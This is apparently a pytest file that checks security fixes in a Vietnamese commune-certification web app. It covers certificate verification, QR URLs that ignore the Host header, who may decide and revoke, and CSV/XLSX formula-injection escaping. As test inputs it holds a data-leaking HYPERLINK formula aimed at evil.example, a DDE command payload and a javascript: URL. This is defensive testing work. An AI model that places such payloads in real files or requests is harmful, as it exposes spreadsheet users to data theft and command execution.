"""Attacks on documents and exports (issue 11, items 5, 6, 12 and 14), each refused.

* 5: a genuine verification code printed on a forged certificate for another commune must be
  exposed by ``/verify/<code>`` (unit, decision number and date, issuer, validity, revocation);
  a decision cannot be dated in the future or before its round's year; a certificate is not
  valid before its decision's date.
* 6: the QR codes never take their address from the request's Host header; without a
  configured public address certificates are not printed.
* 12: only the round's recognising tier decides and revokes (the district chair in the
  three-tier 2024 round, not an authority scoped to the province).
* 14: no text cell of an XLSX or CSV export is a formula.
"""
from __future__ import annotations

import csv
import io
import re
import subprocess
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from flask import Flask

from certificates import pool, records, render
from scoring.cells import csv_cell, from_csv
from webapp.cli.main import cfc
from webapp.store import accounts, periodic, transfer, urban, vietnamese, workflow
from webapp.store.demo import DEMO_PASSWORD
from webapp.store.errors import TransitionRefused

from webhelpers import ClientAs, MakeApp, logged_in, opened

PUBLIC = "https://treem.caobang.gov.vn"
PROVINCE_2022 = "cao-bang-2022:04"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


@pytest.fixture(scope="module", autouse=True)
def _stop_workers():
    yield
    pool.shutdown_pools()


def sql(path: Path, query: str, params: list[Any] | None = None) -> list[dict[str, Any]]:
    with opened(path, migrate=False) as db:
        return list(db.query(query, params or []))


def chair_district(path: Path) -> str:
    return sql(path, "select scope_unit_id from users where username = 'chutich.huyen'")[0]["scope_unit_id"]


def demo_round(path: Path) -> int:
    return sql(path, "select max(id) id from rounds")[0]["id"]


def issue_decision(path: Path, number: str = "125", signed_on: str = "2024-12-16") -> list[dict[str, Any]]:
    """The district chair's decision for the recognised communes of the demo round; their certificates."""
    with opened(path) as db:
        doc = records.issue(db, demo_round(path), chair_district(path), number=number, signed_on=signed_on,
                            valid_until="2027-12-31", signer_title="CHỦ TỊCH", signer_name="Nông Văn Hùng",
                            actor="chutich.huyen")
        return records.certificates_of(db, doc)


def pdf_text(pdf: bytes) -> str:
    out = subprocess.run(["pdftotext", "-enc", "UTF-8", "-", "-"], input=pdf, capture_output=True,
                         check=True).stdout.decode("utf-8")
    return " ".join(unicodedata.normalize("NFC", out).split())


def qr_matches(pdf: bytes, url: str, tmp_path: Path) -> bool:
    """Whether the PDF's embedded QR image is exactly the QR code of ``url``."""
    import segno
    from PIL import Image

    source = tmp_path / "certificate.pdf"
    source.write_bytes(pdf)
    for old in tmp_path.glob("img-*"):
        old.unlink()
    subprocess.run(["pdfimages", "-png", str(source), str(tmp_path / "img")], check=True)
    modules = [[bool(dark) for dark in row] for row in
               segno.make(url, error="m", micro=False, mask=render.MASK).matrix_iter(border=render.QR_BORDER)]
    for image in sorted(tmp_path.glob("img-*.png")):
        picture = Image.open(image).convert("L")
        if picture.size == (len(modules), len(modules)):
            return [[picture.getpixel((x, y)) < 128 for x in range(picture.width)]
                    for y in range(picture.height)] == modules
    return False


# --- item 12: the recognising tier decides and revokes -------------------------------------------

@pytest.fixture()
def province_authority(db_path: Path) -> dict[str, Any]:
    """An authority account scoped to the province, and a verified and a recognised assessment of the
    three-tier 2024 demo round (where only the district chair may decide)."""
    with opened(db_path) as db:
        accounts.create_user(db, "chutich.tinh", DEMO_PASSWORD, "authority", "Chủ tịch UBND tỉnh", PROVINCE_2022,
                             "admin")
    pick = "select id from assessments where round_id = ? and status = ? order by id limit 1"
    round_id = demo_round(db_path)
    return {"verified": sql(db_path, pick, [round_id, "verified"])[0]["id"],
            "recognised": sql(db_path, pick, [round_id, "recognised"])[0]["id"]}


def state(path: Path, assessment_id: int) -> tuple[Any, ...]:
    row = sql(path, "select a.status, a.version, d.outcome, d.revoked_at from assessments a left join decisions d "
                    "on d.assessment_id = a.id where a.id = ?", [assessment_id])[0]
    audit = sql(path, "select count(*) n from audit_log")[0]["n"]
    return (*row.values(), audit)


def test_a_province_authority_cannot_decide_or_revoke_in_a_three_tier_round(db_path: Path,
                                                                            province_authority: dict[str, Any],
                                                                            client_as: ClientAs) -> None:
    """Before: decide → 303 (recognised) and revoke → 303 (revoked) for the province's authority."""
    client = client_as("chutich.tinh")
    verified, recognised = province_authority["verified"], province_authority["recognised"]
    before = {a: state(db_path, a) for a in (verified, recognised)}
    decided = client.post(f"/assessments/{verified}/decide", data={"outcome": "not_recognised", "reason": "Thử"})
    revoked = client.post(f"/assessments/{recognised}/revoke", data={"reason": "Thử thu hồi"})
    for response, action in ((decided, "quyết định công nhận"), (revoked, "thu hồi công nhận")):
        page = response.get_data(as_text=True)
        assert response.status_code == 409, page
        assert (f"Không thể {action}: hồ sơ của đợt đánh giá này do Chủ tịch Ủy ban nhân dân huyện "
                f"nơi có đơn vị quyết định.") in page
    assert {a: state(db_path, a) for a in (verified, recognised)} == before  # nothing written, no audit entry
    page = client.get("/decisions").get_data(as_text=True)  # no form offers what would be refused
    assert f'action="/assessments/{verified}/decide"' not in page
    assert f'action="/assessments/{recognised}/revoke"' not in page
    assert "Đợt đánh giá này do người có thẩm quyền của cấp khác quyết định." in page


def test_the_storage_layer_checks_the_recognising_tier(db_path: Path, province_authority: dict[str, Any]) -> None:
    verified, recognised = province_authority["verified"], province_authority["recognised"]
    with opened(db_path) as db:
        unit = db.execute("select unit_id from assessments where id = ?", [verified]).fetchone()[0]
        district = db.execute("select parent_id from units where id = ?", [unit]).fetchone()[0]
        other = db.execute("select id from units where type = 'huyen' and unit_set = 'cao-bang-2022' and id != ? "
                           "limit 1", [district]).fetchone()[0]
        for authority in (PROVINCE_2022, other, "cao-bang-2025:04", "no-such-unit"):
            with pytest.raises(TransitionRefused, match="not the recognising authority"):
                workflow.decide(db, verified, "x", False, "Thử", authority=authority)
        with pytest.raises(TransitionRefused, match="not the recognising authority"):
            workflow.revoke(db, recognised, "x", "Thử", authority=PROVINCE_2022)
        decided = workflow.decide(db, verified, "x", False, "Chưa đạt", authority=district)
        assert decided.row["status"] == "not_recognised"


def test_the_district_chair_still_decides_and_revokes(db_path: Path, client_as: ClientAs) -> None:
    district = chair_district(db_path)
    recognised = sql(db_path, "select a.id from assessments a join units u on u.id = a.unit_id where a.round_id = ? "
                              "and a.status = 'recognised' and u.parent_id = ? limit 1",
                     [demo_round(db_path), district])[0]["id"]
    client = client_as("chutich.huyen")
    assert client.post(f"/assessments/{recognised}/revoke", data={"reason": "Hậu kiểm sai lệch"}).status_code == 303
    assert state(db_path, recognised)[0] == "revoked"


# --- item 5: the verification page exposes a forged certificate ----------------------------------

def test_verify_page_names_the_unit_decision_issuer_and_validity(db_path: Path, app: Flask) -> None:
    """Before: the page said only «Giấy công nhận CÒN HIỆU LỰC»: a genuine code of one commune printed on a
    forged certificate for another verified. Now each code shows its own unit, so the forgery shows."""
    first, second = issue_decision(db_path)[:2]
    names = {c["code"]: sql(db_path, "select u.name, u.type from assessments a join units u on u.id = a.unit_id "
                                     "where a.id = ?", [c["assessment_id"]])[0] for c in (first, second)}
    district = sql(db_path, "select name from units where id = ?", [chair_district(db_path)])[0]["name"]
    client = app.test_client()
    for mine, other in ((first, second), (second, first)):
        response = client.get(f"/verify/{mine['code']}")
        page = response.get_data(as_text=True)
        unit = names[mine["code"]]
        full = f"{'Xã' if unit['type'] == 'xa' else 'Thị trấn' if unit['type'] == 'thi_tran' else 'Phường'} " \
               f"{unit['name']}, huyện {district}, tỉnh Cao Bằng"
        assert response.status_code == 200 and 'data-status="valid"' in page
        assert re.search(r'id="verify-unit">([^<]*)<', page).group(1) == full
        assert names[other["code"]]["name"] not in page
        assert re.search(r'id="verify-decision">([^<]*)<', page).group(1) == "Số 125/QĐ-UBND ngày 16/12/2024"
        assert re.search(r'id="verify-issuer">([^<]*)<', page).group(1) == \
            f"Chủ tịch Ủy ban nhân dân huyện {district}"
        assert re.search(r'id="verify-validity">([^<]*)<', page).group(1) == \
            "Từ ngày 16/12/2024 đến hết ngày 31/12/2027"
        assert "cao-bang-2022" not in page and str(mine["total"]) not in page  # no internal id, no score


def test_verify_page_shows_the_revocation_date_and_reason(db_path: Path, app: Flask) -> None:
    cert = issue_decision(db_path)[0]
    with opened(db_path) as db:
        workflow.revoke(db, cert["assessment_id"], "chutich.huyen", "Hậu kiểm phát hiện số liệu sai lệch")
        revoked_at = db.execute("select revoked_at from decisions where assessment_id = ?",
                                [cert["assessment_id"]]).fetchone()[0]
    page = app.test_client().get(f"/verify/{cert['code']}").get_data(as_text=True)
    assert 'data-status="revoked"' in page and "ĐÃ BỊ THU HỒI" in page
    assert re.search(r'id="verify-revoked">([^<]*)<', page).group(1).strip() == \
        f"Ngày {vietnamese.short_date(revoked_at)} — Lý do: Hậu kiểm phát hiện số liệu sai lệch"


def test_a_certificate_is_not_valid_before_its_decision_date(db_path: Path, app: Flask) -> None:
    cert = issue_decision(db_path)[0]
    with opened(db_path) as db:
        assert records.verify(db, cert["code"], today=vietnamese.as_date("2024-12-15"))["status"] == "not_yet_valid"
        assert records.verify(db, cert["code"], today=vietnamese.as_date("2024-12-16"))["status"] == "valid"
        # a decision dated ahead (stored before dates were checked) is not yet valid today
        db.execute("update recognition_documents set signed_on = '2027-01-01'")
        db.conn.commit()
    page = app.test_client().get(f"/verify/{cert['code']}").get_data(as_text=True)
    assert 'data-status="not_yet_valid"' in page and "CHƯA CÓ HIỆU LỰC" in page


@pytest.mark.parametrize("signed_on, reason", [
    ("2099-12-16", "Ngày ký 16/12/2099 là ngày trong tương lai"),
    ("2023-12-31", "Ngày ký 31/12/2023 trước năm đánh giá 2024 của đợt này."),
])
def test_issuing_a_decision_dated_in_the_future_or_before_the_round_is_refused(
        db_path: Path, signed_on: str, reason: str, client_as: ClientAs) -> None:
    """Before: both dates were accepted (303) and the certificates carried them."""
    client = client_as("chutich.huyen")
    form = {"number": "125", "signed_on": signed_on, "valid_until": "2100-12-31", "signer_title": "CHỦ TỊCH",
            "signer_name": "Nông Văn Hùng"}
    response = client.post(f"/rounds/{demo_round(db_path)}/decision", data=form)
    page = response.get_data(as_text=True)
    assert response.status_code == 422 and reason in page
    assert f'value="{signed_on}"' in page and 'value="Nông Văn Hùng"' in page  # what was typed is kept
    assert sql(db_path, "select count(*) n from recognition_documents")[0]["n"] == 0
    result = CliRunner().invoke(cfc, ["decision", str(demo_round(db_path)), "--issuer", chair_district(db_path),
                                      "--number", "125", "--date", signed_on, "--valid-until", "2100-12-31",
                                      "--signer-name", "Nông Văn Hùng", "--db", str(db_path)])
    assert result.exit_code == 2 and "signing date" in result.output, result.output
    assert sql(db_path, "select count(*) n from recognition_documents")[0]["n"] == 0


# --- item 6: the QR codes never come from the Host header ----------------------------------------

def test_certificates_refused_without_a_public_url_whatever_the_host(db_path: Path, tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch,
                                                                    client_as: ClientAs) -> None:
    """Before: 200, and every certificate printed http://evil.example/verify/…"""
    monkeypatch.delenv("CFC_PUBLIC_URL", raising=False)
    issue_decision(db_path)
    client = client_as("chutich.huyen", base_url="http://evil.example")
    response = client.get(f"/rounds/{demo_round(db_path)}/certificates.zip", base_url="http://evil.example")
    page = response.get_data(as_text=True)
    assert response.status_code == 503 and response.mimetype == "text/html"
    assert "quản trị hệ thống chưa đặt địa chỉ công khai của hệ thống (CFC_PUBLIC_URL)" in page
    monkeypatch.setenv("CFC_PUBLIC_URL", "https://user@evil.example/../x")  # not a plain address either
    response = client.get(f"/rounds/{demo_round(db_path)}/certificates.zip", base_url="http://evil.example")
    assert response.status_code == 503 and "không phải là một địa chỉ web hợp lệ" in response.get_data(as_text=True)
    result = CliRunner().invoke(cfc, ["certificates", str(demo_round(db_path)), "-o", str(tmp_path / "g.zip"),
                                      "--db", str(db_path), "--public-url", "javascript:alert(1)"])
    assert result.exit_code == 2 and "plain http(s) address" in result.output and not (tmp_path / "g.zip").exists()


def test_certificates_use_the_configured_address_not_the_host_header(db_path: Path, tmp_path: Path,
                                                                     make_app: MakeApp) -> None:
    certs = issue_decision(db_path)
    client = logged_in(make_app(db_path, PUBLIC_URL=PUBLIC + "/"), "chutich.huyen", base_url="http://evil.example")
    response = client.get(f"/rounds/{demo_round(db_path)}/certificates.zip", base_url="http://evil.example",
                          headers={"X-Forwarded-Host": "evil.example"})
    assert response.status_code == 200
    codes = {c["code"] for c in certs}
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        pdfs = [n for n in archive.namelist() if n.endswith(".pdf")]
        assert len(pdfs) == len(certs)
        assert b"evil.example" not in archive.read("danh-sach.csv")
        for number, name in enumerate(pdfs):
            pdf = archive.read(name)
            text = pdf_text(pdf)
            assert "evil.example" not in text and b"evil.example" not in pdf
            code = next(c for c in codes if f"Mã xác minh: {c}" in text)
            assert f"{PUBLIC}/verify/{code}" in text
            if number < 2:  # the QR payload itself, read back from the image (two suffice)
                assert qr_matches(pdf, f"{PUBLIC}/verify/{code}", tmp_path)


def test_doctor_reports_the_public_url(monkeypatch: pytest.MonkeyPatch) -> None:
    from webapp.cli import checks as doctor

    assert doctor.check_public_url(None).status == doctor.WARN
    assert doctor.check_public_url("http://evil.example/a/../b").status == doctor.FAIL
    check = doctor.check_public_url(PUBLIC + "/")
    assert (check.status, check.reason) == (doctor.OK, f"the QR codes on certificates point to {PUBLIC}/verify/<code>")


# --- item 14: formula injection in exports --------------------------------------------------------

def formulas(data: bytes) -> list[str]:
    """Every formula cell of a workbook (read back with openpyxl), and any <f> element in its XML."""
    found = []
    for ws in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        found += [f"{ws.title}!{c.coordinate}" for row in ws.iter_rows() for c in row if c.data_type == "f"]
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        found += [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]
    return found


def cells(data: bytes, sheet: str) -> list[Any]:
    ws = openpyxl.load_workbook(io.BytesIO(data))[sheet]
    return [c.value for row in ws.iter_rows() for c in row]


def test_a_round_named_like_a_formula_is_text_in_the_periodic_xlsx(db_path: Path) -> None:
    """Before: «Tổng hợp»!B2 was the live formula =HYPERLINK(...)."""
    with opened(db_path) as db:
        db.execute("update rounds set name = ?", [FORMULA])
        db.execute("update users set display_name = '@SUM(1+1)'")
        db.conn.commit()
        data = periodic.period_xlsx(periodic.period_report(db, demo_round(db_path), kind="annual"))
    assert formulas(data) == []
    assert FORMULA in cells(data, "Tổng hợp")
    ws = openpyxl.load_workbook(io.BytesIO(data))["Tổng hợp"]
    numbers = {row[0].value: row[1] for row in ws.iter_rows(min_row=2)}
    assert numbers["Số đơn vị"].data_type == "n" and isinstance(numbers["Số đơn vị"].value, int)


def test_unit_names_like_formulas_are_text_in_every_export_and_round_trip(db_path: Path) -> None:
    evil = {"=1+2": "xa", "+CMD|' /C calc'!A0": "xa", "-2+3": "thi_tran", "@SUM(A1)": "xa", "\t=1": "xa"}
    with opened(db_path) as db:
        round_id = demo_round(db_path)
        ids = [r[0] for r in db.execute("select unit_id from assessments where round_id = ? order by id limit ?",
                                        [round_id, len(evil)])]
        for unit_id, name in zip(ids, evil, strict=True):
            db.execute("update units set name = ?, type = 'xa' where id = ?", [name, unit_id])
        db.execute("update units set name = '=HYPERLINK(\"http://evil.example\")' where type = 'phuong'")
        db.conn.commit()
        exported, template = transfer.export_xlsx(db, round_id), transfer.template_xlsx(db, round_id)
        text = transfer.template_csv(db, round_id)
        urban_csv = urban.template_csv(db, "cao-bang-2022", 2024)
    assert formulas(exported) == [] and formulas(template) == []
    assert {f"Xã {n}" for n in evil} <= set(cells(exported, "Tổng hợp"))
    rows = list(csv.reader(io.StringIO(text)))
    names = {row[1] for row in rows[1:]}
    assert {f"Xã {n}" for n in evil} <= names  # «Xã …» does not start like a formula: left alone
    # the CSV as read back by the import is the CSV as written
    assert transfer.read_table(text.encode("utf-8-sig"), "mau.csv") == rows
    assert not any(field.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(urban_csv))
                   for field in row)


def test_csv_fields_like_formulas_get_an_apostrophe_and_import_removes_it() -> None:
    for text in ("=1+2", "+1", "-1", "@A1", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text and from_csv(csv_cell(text)) == text
    for value in (-5, -2.5, 0, "Xã Đức Long", "'quoted", "", None):
        assert csv_cell(value) == value and from_csv(value) == value
    escaped = transfer.read_table(b"code,name\n01789,'=1+2\n01790,'plain\n", "x.csv")
    assert escaped == [["code", "name"], ["01789", "=1+2"], ["01790", "'plain"]]


def test_cfc_score_csv_writes_formulas_as_text(tmp_path: Path, perfect_inputs: dict[str, Any]) -> None:
    """Before: the output CSV's name field was =HYPERLINK(...) as given."""
    source = tmp_path / "communes.csv"
    columns = ["code", "name", "category", *perfect_inputs]
    with source.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(columns)
        writer.writerow(["@01789", FORMULA, "other", *perfect_inputs.values()])
    out = tmp_path / "scores.csv"
    result = CliRunner().invoke(cfc, ["score", str(source), "-o", str(out)])
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert (row["code"], row["name"], row["total"]) == ("'@01789", "'" + FORMULA, "1000")

